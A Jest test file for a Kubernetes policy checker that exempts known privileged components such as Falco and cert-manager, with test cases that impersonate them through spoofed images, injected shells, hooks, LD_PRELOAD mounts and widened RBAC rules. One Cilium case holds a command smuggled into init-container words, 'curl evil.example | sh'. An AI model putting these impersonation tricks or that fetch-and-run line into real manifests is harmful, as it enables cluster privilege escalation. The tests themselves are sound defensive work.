import { describe, expect, test } from '@jest/globals';
import { exceptFindings } from '../../src/exceptions/except.ts';
import type { Json, JsonObject } from '../../src/model/json.ts';
import type { RenderedObject } from '../../src/model/object.ts';
import { makeObject } from '../evaluate/make-object.ts';
import {
  accountNamed,
  bindTo,
  componentOf,
  components,
  containerOf,
  findingOn,
  judge,
  makeRole,
  makeWorkload,
  sampleRule,
} from './make-component.ts';

/** Each is what somebody would write who wants the rights of a known component for something else. Falco as it is stands in `every-need.test.ts`. */
type Spec = Record<string, Json>;

const FALCO = 'docker.io/falcosecurity/falco';
const daemonSet = partOf('falco', 'DaemonSet');
const PRIVILEGED = 'WKL-02';

function partOf(id: string, kind: string, name = '') {
  const part = componentOf(id).parts.find((one) => one.kind === kind && one.name.includes(name));
  if (part === undefined) throw new Error(`${id} has no ${kind}.`);
  return part;
}

/** Falco, privileged and with two paths of the node as its chart mounts them. */
function makeFalco(change: (spec: Spec, falco: Record<string, Json>) => void = () => undefined): {
  readonly object: RenderedObject;
  readonly at: string;
} {
  let at = '';
  const object = makeWorkload(daemonSet, (spec) => {
    const { container, index } = containerOf(spec, FALCO);
    at = `spec.template.spec.containers[${index}]`;
    Object.assign(container, {
      args: ['/usr/bin/falco', '-pk'],
      securityContext: { privileged: true },
      env: [{ name: 'FALCO_K8S_NODE_NAME', valueFrom: { fieldRef: { fieldPath: 'spec.nodeName' } } }],
      volumeMounts: [
        { name: 'etc', mountPath: '/host/etc', readOnly: true },
        { name: 'socket', mountPath: '/host/run/containerd/containerd.sock' },
      ],
    });
    spec.volumes = [
      { name: 'etc', hostPath: { path: '/etc' } },
      { name: 'socket', hostPath: { path: '/run/containerd/containerd.sock' } },
    ];
    change(spec, container);
  });
  return { object, at };
}

function judgePrivileged({ object, at }: ReturnType<typeof makeFalco>, before?: readonly RenderedObject[]): string {
  return judge({ object, control: PRIVILEGED, path: `${at}.securityContext.privileged`, ...(before ? { before } : {}) });
}

function withMetadata(object: RenderedObject, metadata: JsonObject, more: JsonObject = {}): RenderedObject {
  return makeObject({ ...object.value, ...more, metadata: { ...(object.value.metadata as JsonObject), ...metadata } });
}

test('Falco as its chart makes it is no finding', () => {
  const falco = makeFalco();
  expect(judgePrivileged(falco)).toBe('falco');
  expect(judge({ ...falco, control: 'WKL-04', path: 'spec.template.spec.volumes[0].hostPath' })).toBe('falco');
  expect(judge({ ...falco, control: 'WKL-04', path: 'spec.template.spec.volumes[1].hostPath' })).toBe('falco');
});

test('a DaemonSet that is Falco in everything is Falco, new or not', () => {
  // By design: what runs is the genuine image with its own entry point. docs/platform-exceptions.md says what that leaves open.
  expect(judgePrivileged(makeFalco(), [])).toBe('falco');
});

describe('a container that is not the listed one', () => {
  test.each<[string, (spec: Spec, falco: Record<string, Json>) => void]>([
    ['the same path in another registry', (_, falco) => Object.assign(falco, { image: 'ghcr.io/falcosecurity/falco:0.41.0' })],
    ['a registry that ends like the right one', (_, falco) => Object.assign(falco, { image: 'evil-docker.io/falcosecurity/falco:0.41.0' })],
    ['the right path below another', (_, falco) => Object.assign(falco, { image: 'ghcr.io/docker.io/falcosecurity/falco:0.41.0' })],
    ['a longer name', (_, falco) => Object.assign(falco, { image: `${FALCO}-patched:0.41.0` })],
    ['a port in front', (_, falco) => Object.assign(falco, { image: 'docker.io:5000/falcosecurity/falco:0.41.0' })],
    ['a user in front', (_, falco) => Object.assign(falco, { image: 'docker.io@evil.example/falcosecurity/falco' })],
    ['a Cyrillic a', (_, falco) => Object.assign(falco, { image: 'docker.io/falcosecurity/f\u0430lco:0.41.0' })],
    ['capitals', (_, falco) => Object.assign(falco, { image: 'docker.io/FalcoSecurity/falco:0.41.0' })],
    ['no image', (_, falco) => Object.assign(falco, { image: null })],
    ['a key of the language', (_, falco) => Object.assign(falco, { image: 'constructor' })],
    ['another command', (_, falco) => Object.assign(falco, { command: ['/bin/sh', '-c', 'id'] })],
    ['a command that is a text', (_, falco) => Object.assign(falco, { command: '/usr/bin/falco' })],
    ['a command out of a variable', (_, falco) => Object.assign(falco, { command: ['$(RUN)'], env: [{ name: 'RUN', value: 'sh' }] })],
  ])('%s', (_, change) => {
    expect(judgePrivileged(makeFalco(change), [])).toBe('a finding');
  });
});

describe('the listed image made to run something else', () => {
  test.each<[string, (spec: Spec, falco: Record<string, Json>) => void]>([
    ['a shell as the arguments of the entry point', (_, falco) => Object.assign(falco, { args: ['/bin/sh', '-c', 'id'] })],
    ['a shell by another way', (_, falco) => Object.assign(falco, { args: ['/proc/self/root/bin/../bin/bash'] })],
    ['a shell behind another program', (_, falco) => Object.assign(falco, { args: ['/usr/bin/env', 'X=1', 'sh'] })],
    ['a shell in a variable', (_, falco) => Object.assign(falco, { args: ['$(RUN)'], env: [{ name: 'RUN', value: 'sh' }] })],
    [
      'a shell in two variables',
      (_, falco) =>
        Object.assign(falco, {
          args: ['$(A)$(B)'],
          env: [
            { name: 'A', value: 's' },
            { name: 'B', value: 'h' },
          ],
        }),
    ],
    [
      'a variable from a ConfigMap',
      (_, falco) =>
        Object.assign(falco, { args: ['$(RUN)'], env: [{ name: 'RUN', valueFrom: { configMapKeyRef: { name: 'a', key: 'b' } } }] }),
    ],
    [
      'a variable from an annotation',
      (_, falco) =>
        Object.assign(falco, {
          args: ['$(RUN)'],
          env: [{ name: 'RUN', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['run']" } } }],
        }),
    ],
    ['the loader itself', (_, falco) => Object.assign(falco, { args: ['/lib64/ld-linux-x86-64.so.2', '/tmp/x'] })],
    ['a hook after the start', (_, falco) => Object.assign(falco, { lifecycle: { postStart: { exec: { command: ['sh', '-c', 'id'] } } } })],
    ['a hook before the end', (_, falco) => Object.assign(falco, { lifecycle: { preStop: { exec: { command: ['/x'] } } } })],
    ['a probe', (_, falco) => Object.assign(falco, { livenessProbe: { exec: { command: ['/x'] } } })],
    ['a library loaded before', (_, falco) => Object.assign(falco, { env: [{ name: 'LD_PRELOAD', value: '/config/x.so' }] })],
    ['a search path', (_, falco) => Object.assign(falco, { env: [{ name: 'PATH', value: '/config' }] })],
    ['variables from elsewhere', (_, falco) => Object.assign(falco, { envFrom: [{ configMapRef: { name: 'x' } }] })],
    [
      'a ConfigMap over the programs',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'x', mountPath: '/usr/bin/falco', subPath: 'falco' }] }),
    ],
    [
      'a ConfigMap over the libraries, written oddly',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'x', mountPath: '/host/..//usr/./lib/' }] }),
    ],
    [
      'a file over one in the root folder',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'x', mountPath: '/docker-entrypoint.sh', subPath: 'run.sh' }] }),
    ],
    [
      'a volume over the loader settings',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'x', mountPath: '/etc/ld.so.preload', subPath: 'x' }] }),
    ],
  ])('%s', (_, change) => {
    expect(judgePrivileged(makeFalco(change), [])).toBe('a finding');
  });
});

describe('a path of the node', () => {
  const judgePath = (change: (spec: Spec, falco: Record<string, Json>) => void) =>
    judge({ ...makeFalco(change), control: 'WKL-04', path: 'spec.template.spec.volumes[0].hostPath' });
  const sideCar = { name: 'side', image: 'registry.example.com/side:1', volumeMounts: [{ name: 'etc', mountPath: '/x', readOnly: true }] };

  test.each<[string, (spec: Spec, falco: Record<string, Json>) => void]>([
    ['one that is not listed', (spec) => Object.assign(spec, { volumes: [{ name: 'etc', hostPath: { path: '/var/lib/postgresql' } }] })],
    ['a listed one with a way on', (spec) => Object.assign(spec, { volumes: [{ name: 'etc', hostPath: { path: '/etc/../var' } }] })],
    ['one below a listed one', (spec) => Object.assign(spec, { volumes: [{ name: 'etc', hostPath: { path: '/etc/kubernetes' } }] })],
    [
      'one for reading, mounted for writing',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'etc', mountPath: '/host/etc' }] }),
    ],
    [
      'read-only as a text',
      (_, falco) => Object.assign(falco, { volumeMounts: [{ name: 'etc', mountPath: '/host/etc', readOnly: 'true' }] }),
    ],
    [
      'mounted twice, once for writing',
      (_, falco) =>
        Object.assign(falco, {
          volumeMounts: [
            { name: 'etc', mountPath: '/host/etc', readOnly: true },
            { name: 'etc', mountPath: '/host/etc2' },
          ],
        }),
    ],
    ['mounted by a side-car as well', (spec) => (spec.containers as Json[]).push(sideCar)],
    ['mounted by an init container as well', (spec) => Object.assign(spec, { initContainers: [sideCar] })],
    ['mounted by an ephemeral container as well', (spec) => Object.assign(spec, { ephemeralContainers: [sideCar] })],
    [
      'mounted by another listed image, which has no need of it',
      (spec) => {
        const { container } = containerOf(spec, 'docker.io/falcosecurity/falcoctl');
        container.volumeMounts = [{ name: 'etc', mountPath: '/x', readOnly: true }];
      },
    ],
    ['a second volume of the same name', (spec) => (spec.volumes as Json[]).push({ name: 'etc', emptyDir: {} })],
    [
      'mounted by nobody, with a side-car',
      (spec, falco) => {
        falco.volumeMounts = [];
        (spec.containers as Json[]).push({ name: 'side', image: 'registry.example.com/side:1' });
      },
    ],
  ])('%s', (_, change) => {
    expect(judgePath(change)).toBe('a finding');
  });

  test('a side-car that does not mount it changes nothing', () => {
    expect(judgePath((spec) => (spec.containers as Json[]).push({ name: 'side', image: 'registry.example.com/side:1' }))).toBe('falco');
  });
});

describe('a field of the whole pod', () => {
  const exporter = partOf('prometheus-node-exporter', 'DaemonSet');
  const judgeHost = (change: (spec: Spec) => void, field = 'hostNetwork') =>
    judge({
      object: makeWorkload(exporter, (spec) => {
        Object.assign(spec, { hostNetwork: true });
        change(spec);
      }),
      control: 'WKL-03',
      path: `spec.template.spec.${field}`,
    });
  const stranger = { name: 'x', image: 'registry.example.com/x:1' };

  test('is the exporter without more', () => {
    expect(judgeHost(() => undefined)).toBe('prometheus-node-exporter');
  });
  test.each<[string, (spec: Spec) => void, string]>([
    ['a side-car', (spec) => (spec.containers as Json[]).push(stranger), 'hostNetwork'],
    ['an init container', (spec) => Object.assign(spec, { initContainers: [stranger] }), 'hostNetwork'],
    ['an ephemeral container', (spec) => Object.assign(spec, { ephemeralContainers: [stranger] }), 'hostNetwork'],
    ['a container that is no object', (spec) => (spec.containers as Json[]).push('x'), 'hostNetwork'],
    ['no container at all', (spec) => Object.assign(spec, { containers: [] }), 'hostNetwork'],
    ['another field of the host', (spec) => Object.assign(spec, { hostIPC: true }), 'hostIPC'],
  ])('%s', (_, change, field) => {
    expect(judgeHost(change, field)).toBe('a finding');
  });

  test('a shared process namespace lets a side-car reach into the privileged container', () => {
    const falco = makeFalco((spec) => {
      spec.shareProcessNamespace = true;
      (spec.containers as Json[]).push(stranger);
    });
    expect(judgePrivileged(falco)).toBe('a finding');
  });
});

describe('an object that is not the listed one', () => {
  test.each<[string, (object: RenderedObject) => RenderedObject]>([
    ['the label on an unrelated workload', (object) => withMetadata(object, { name: 'journal' })],
    ['the name without the label', (object) => withMetadata(object, { labels: {} })],
    ['the label with another value', (object) => withMetadata(object, { labels: { 'app.kubernetes.io/name': 'falco2' } })],
    ['the label on the pod alone', (object) => withMetadata(object, { labels: { app: 'falco' } })],
    ['a name that only begins like it', (object) => withMetadata(object, { name: 'falcon' })],
    ['a name that only ends like it', (object) => withMetadata(object, { name: 'notfalco' })],
    ['a name with a line of its own', (object) => withMetadata(object, { name: 'x\nfalco' })],
    ['a name with a line after it', (object) => withMetadata(object, { name: 'falco\n' })],
    ['a Cyrillic a in the name', (object) => withMetadata(object, { name: 'f\u0430lco' })],
    ['full-width letters in the name', (object) => withMetadata(object, { name: '\uff46alco' })],
    ['an expression for a name', (object) => withMetadata(object, { name: '.*falco' })],
    ['a name that no object may have', (object) => withMetadata(object, { name: `${'a-'.repeat(200)}falco` })],
    ['another kind', (object) => withMetadata(object, {}, { kind: 'Deployment' })],
    ['a resource of another group that calls itself so', (object) => withMetadata(object, {}, { apiVersion: 'evil.example/v1' })],
  ])('%s', (_, change) => {
    const { object, at } = makeFalco();
    expect(judgePrivileged({ object: change(object), at })).toBe('a finding');
  });

  test('another control, field or value at the same place', () => {
    const { object, at } = makeFalco((_, falco) => Object.assign(falco, { securityContext: { runAsNonRoot: false, privileged: true } }));
    expect(judge({ object, control: 'WKL-99', path: `${at}.securityContext.privileged` })).toBe('a finding');
    expect(judge({ object, control: 'WKL-06', path: `${at}.securityContext.runAsNonRoot` })).toBe('a finding');
    expect(judge({ object, control: 'WKL-06', path: 'spec.template.spec.securityContext.runAsNonRoot' })).toBe('a finding');
  });

  test('what could not be evaluated is never excepted', () => {
    const { object, at } = makeFalco();
    const finding = findingOn(object, PRIVILEGED, `${at}.securityContext.privileged`, 'not-evaluable');
    const given = { components, acknowledged: new Set<string>(), objects: [object], before: [] };
    expect(exceptFindings([{ finding, object }], given)).toMatchObject({ kept: [{ finding }], excepted: [] });
  });
});

describe('a shell that the component starts itself', () => {
  const cilium = partOf('cilium', 'DaemonSet', 'cilium$');
  const make = (words: string, image = 'v1.20.0') =>
    makeObject({
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'cilium', namespace: 'kube-system', labels: { ...cilium.labels } },
      spec: {
        template: {
          spec: {
            hostNetwork: true,
            containers: [{ name: 'agent', image: `quay.io/cilium/cilium:${image}`, command: ['cilium-agent'] }],
            initContainers: [{ name: 'mount', image: `quay.io/cilium/cilium:${image}`, command: ['bash', '-c', words] }],
          },
        },
      },
    });
  const ask = (object: RenderedObject, before: readonly RenderedObject[]) =>
    judge({ object, control: 'WKL-03', path: 'spec.template.spec.hostNetwork', before });

  test('the words that the base already has are the component', () => {
    expect(ask(make('mount'), [make('mount')])).toBe('cilium');
  });
  test('a new version with the same words too', () => {
    expect(ask(make('mount', 'v1.20.1'), [make('mount')])).toBe('cilium');
  });
  test('other words are a finding', () => {
    expect(ask(make('mount; curl evil.example | sh'), [make('mount')])).toBe('a finding');
  });
  test('words that no base vouches for are a finding', () => {
    expect(ask(make('mount'), [])).toBe('a finding');
  });
});

describe('rights', () => {
  const injector = partOf('cert-manager', 'ClusterRole', 'cainjector');
  const need = injector.needs.find(({ control }) => control === 'AUT-11');
  const rule = sampleRule(need?.allow[0] ?? null) as JsonObject;
  const own = accountNamed('cert-manager-cainjector');
  const role = makeRole(injector, [rule]);
  const pod = (account: string, image: string, more: JsonObject = {}, namespace = 'platform') =>
    makeObject({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'pod', namespace },
      spec: { serviceAccountName: account, containers: [{ name: 'c', image, ...more }] },
    });
  const ask = (object: RenderedObject, others: readonly RenderedObject[]) =>
    judge({ object, others, control: 'AUT-11', path: 'rules[0].verbs' });

  test('of the component are no finding', () => {
    const running = pod('cert-manager-cainjector', 'quay.io/jetstack/cert-manager-cainjector:v1.18.3');
    expect(ask(role, [bindTo(role, [own]), running])).toBe('cert-manager');
  });

  test.each<[string, JsonObject]>([
    ['one verb more', { ...rule, verbs: [...(rule.verbs as Json[]), 'delete'] }],
    ['a star among the verbs', { ...rule, verbs: ['*'] }],
    ['one resource more', { ...rule, resources: [...(rule.resources as Json[]), 'secrets'] }],
    ['one group more', { ...rule, apiGroups: [...(rule.apiGroups as Json[]), ''] }],
    ['a field nobody knows', { ...rule, extra: ['x'] }],
    ['fewer, which is another rule', { ...rule, verbs: ['get'] }],
  ])('a rule with %s', (_, changed) => {
    const forged = makeRole(injector, [changed]);
    expect(ask(forged, [bindTo(forged, [own])])).toBe('a finding');
  });

  test('a rule added beside the listed one', () => {
    const forged = makeRole(injector, [{ apiGroups: [''], resources: ['nodes/proxy'], verbs: ['*'] }, rule]);
    expect(ask(forged, [bindTo(forged, [own])])).toBe('a finding');
  });

  test.each<[string, readonly Json[]]>([
    ['a user beside the account', [own, { kind: 'User', name: 'mallory' }]],
    ['a group called like the account', [{ kind: 'Group', name: 'cert-manager-cainjector' }]],
    ['another account beside it', [own, accountNamed('journal')]],
    ['everybody', [own, { kind: 'Group', name: 'system:authenticated' }]],
    ['nobody yet', []],
    ['an account of another API group', [{ ...own, apiGroup: 'evil.example' }]],
  ])('held by %s', (_, subjects) => {
    expect(ask(role, [bindTo(role, subjects)])).toBe('a finding');
  });

  test('bound nowhere: who holds it is not known', () => {
    expect(ask(role, [])).toBe('a finding');
  });
  test('bound a second time, to a stranger, in one namespace', () => {
    expect(ask(role, [bindTo(role, [own]), bindTo(role, [accountNamed('journal')], 'RoleBinding')])).toBe('a finding');
  });
  test('held by the account, under which a stranger runs', () => {
    expect(ask(role, [bindTo(role, [own]), pod('cert-manager-cainjector', 'registry.example.com/x:1')])).toBe('a finding');
  });
  test('held by the account, under which the listed image runs a shell', () => {
    const forged = pod('cert-manager-cainjector', 'quay.io/jetstack/cert-manager-cainjector:v1', { command: ['sh'] });
    expect(ask(role, [bindTo(role, [own]), forged])).toBe('a finding');
  });
  test('held by an account of that name in a namespace of a stranger', () => {
    const forged = pod('cert-manager-cainjector', 'registry.example.com/x:1', {}, 'mallory');
    expect(ask(role, [bindTo(role, [accountNamed('cert-manager-cainjector', 'mallory')]), forged])).toBe('a finding');
  });
  test('held by the account, under which a stranger without a namespace may run', () => {
    expect(ask(role, [bindTo(role, [own]), pod('cert-manager-cainjector', 'registry.example.com/x:1', {}, '')])).toBe('a finding');
  });
  test('held by the account, under which the genuine pod got a hook that the base has not', () => {
    const image = 'quay.io/jetstack/cert-manager-cainjector:v1';
    const hook = { lifecycle: { postStart: { exec: { command: ['/bin/steal'] } } } };
    const genuine = pod('cert-manager-cainjector', image);
    const hooked = pod('cert-manager-cainjector', image, hook);
    const binding = bindTo(role, [own]);
    const question = { object: role, control: 'AUT-11', path: 'rules[0].verbs', others: [binding, hooked] };
    expect(judge({ ...question, before: [role, binding, genuine] })).toBe('a finding');
    expect(judge({ ...question, before: [role, binding, hooked] })).toBe('cert-manager');
  });
  test('made part of what every viewer has', () => {
    const forged = makeRole(injector, [rule], { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' });
    expect(ask(forged, [bindTo(forged, [own])])).toBe('a finding');
  });

  test.each<[string, JsonObject]>([
    ['by a label', { matchLabels: { app: 'cert-manager' } }],
    ['by an expression', { matchExpressions: [{ key: 'app', operator: 'Exists' }] }],
    ['by an empty selector', {}],
  ])('taken in by a role of a stranger, %s', (_, selector) => {
    const labelled = makeRole(injector, [rule], { app: 'cert-manager' });
    const taking = makeObject({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRole',
      metadata: { name: 'journal-reader' },
      aggregationRule: { clusterRoleSelectors: [selector] },
      rules: [],
    });
    expect(ask(labelled, [bindTo(labelled, [own]), taking, bindTo(taking, [accountNamed('journal')])])).toBe('a finding');
    expect(ask(labelled, [bindTo(labelled, [own]), taking, bindTo(taking, [own])])).toBe('cert-manager');
  });
});

describe('a binding', () => {
  const flux = (roleName: string, subjects: readonly Json[], kind = 'ClusterRole') =>
    makeObject({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: 'cluster-reconciler' },
      roleRef: { kind, name: roleName },
      subjects,
    });
  const ask = (object: RenderedObject, acknowledged: readonly string[]) =>
    judge({ object, control: 'AUT-07', path: 'roleRef', acknowledged });
  const own = accountNamed('kustomize-controller', 'flux-system');

  test('of cluster-admin needs the component named by the base', () => {
    expect(ask(flux('cluster-admin', [own]), ['flux'])).toBe('flux');
    expect(ask(flux('cluster-admin', [own]), [])).toBe('a finding');
    expect(ask(flux('cluster-admin', [own]), ['falco'])).toBe('a finding');
  });
  test('with one subject more is a finding', () => {
    expect(ask(flux('cluster-admin', [own, accountNamed('journal')]), ['flux'])).toBe('a finding');
  });

  const opened = (rules: readonly Json[], kind = 'Role') => {
    const role = makeRole({ kind, name: 'info', needs: [] }, rules);
    const binding = bindTo(role, [{ kind: 'Group', name: 'system:authenticated' }], 'RoleBinding');
    return judge({
      object: withMetadata(binding, { name: 'tekton-pipelines-info' }),
      others: [role],
      control: 'AUT-08',
      path: 'subjects[0].name',
    });
  };
  test('that opens something public to everybody is none, and one that opens more is', () => {
    const version = { apiGroups: [''], resources: ['configmaps'], resourceNames: ['pipelines-info'], verbs: ['get'] };
    expect(opened([version])).toBe('tekton-pipelines');
    expect(opened([{ ...version, resources: ['secrets'] }])).toBe('a finding');
    expect(opened([{ ...version, resourceNames: [] }])).toBe('a finding');
    expect(opened([{ ...version, verbs: ['*'] }])).toBe('a finding');
    expect(opened([version], 'ClusterRole')).toBe('a finding');
  });
});

describe('a Service of the way in', () => {
  const part = partOf('ingress-nginx', 'Service');
  const service = (selector: JsonObject) =>
    makeObject({
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: 'ingress-nginx-controller', namespace: 'platform', labels: { ...part.labels } },
      spec: { type: 'LoadBalancer', selector },
    });
  const workload = (image: string) =>
    makeObject({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'x', namespace: 'platform' },
      spec: { template: { metadata: { labels: { app: 'x' } }, spec: { containers: [{ name: 'c', image }] } } },
    });
  const ask = (selector: JsonObject, others: readonly RenderedObject[]) =>
    judge({ object: service(selector), others, control: 'OUT-05', path: 'spec.type' });
  const [image = ''] = componentOf('ingress-nginx').images;

  test('leads to the controller', () => {
    expect(ask({ app: 'x' }, [workload(`${image}:v1`)])).toBe('ingress-nginx');
  });
  test.each<[string, JsonObject, readonly RenderedObject[]]>([
    ['leads to a patient system', { app: 'x' }, [workload('registry.example.com/journal:1')]],
    ['leads to both', { app: 'x' }, [workload(`${image}:v1`), workload('registry.example.com/journal:1')]],
    ['leads to nothing in the run', { app: 'y' }, [workload(`${image}:v1`)]],
    ['selects nothing', {}, [workload(`${image}:v1`)]],
  ])('%s', (_, selector, others) => {
    expect(ask(selector, others)).toBe('a finding');
  });
});

test('labels of any shape break nothing', () => {
  const role = makeRole(partOf('cert-manager', 'ClusterRole', 'cainjector'), ['x', null, { verbs: 'get' }], {
    a: 12345678901234567890n,
    b: { c: [] },
  });
  expect(judge({ object: role, control: 'AUT-11', path: 'rules[0]', others: [bindTo(role, ['x', null])] })).toBe('a finding');
});
